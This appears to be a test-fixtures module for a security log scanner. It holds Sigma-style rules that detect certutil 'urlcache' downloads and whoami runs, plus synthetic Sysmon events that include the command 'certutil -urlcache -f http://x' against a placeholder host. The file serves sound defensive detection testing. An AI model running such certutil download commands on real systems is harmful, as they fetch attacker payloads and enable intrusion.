"""Shared fixtures for the `vigil rules` and `vigil scan` CLI tests (run as real subprocesses)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

SYSMON = "Microsoft-Windows-Sysmon/Operational"

RULE_HIGH = """
title: Certutil download
id: 2b3c4d5e-0000-4000-8000-000000000001
status: test
level: high
tags: [attack.command_and_control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\certutil.exe'
  cli:
    CommandLine|contains: urlcache
  condition: selection and cli
"""

RULE_LOW = """
title: Whoami run
id: 2b3c4d5e-0000-4000-8000-000000000002
status: test
level: low
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\whoami.exe'
  condition: selection
"""


def proc(image: str, cmd: str, n: int = 0) -> dict[str, Any]:
    return {
        "Channel": SYSMON,
        "EventID": 1,
        "Image": image,
        "CommandLine": cmd,
        "UtcTime": f"2024-01-01 10:00:{n:02d}.000",
    }


CERTUTIL = proc(r"C:\Windows\System32\certutil.exe", "certutil -urlcache -f http://x")
WHOAMI = proc(r"C:\Windows\System32\whoami.exe", "whoami /all")
BENIGN = proc(r"C:\Windows\System32\notepad.exe", "notepad")


def vigil(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "vigil.cli.main", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
        check=False,
    )


def write_rules(folder: Path, *texts: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i, text in enumerate(texts):
        (folder / f"rule_{i}.yml").write_text(text, encoding="utf-8")
    return folder


def write_jsonl(
    path: Path, events: list[dict[str, Any]], extra_lines: tuple[str, ...] = ()
) -> Path:
    lines = [json.dumps(e) for e in events]
    for i, line in enumerate(extra_lines):
        lines.insert(min(1 + i, len(lines)), line)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
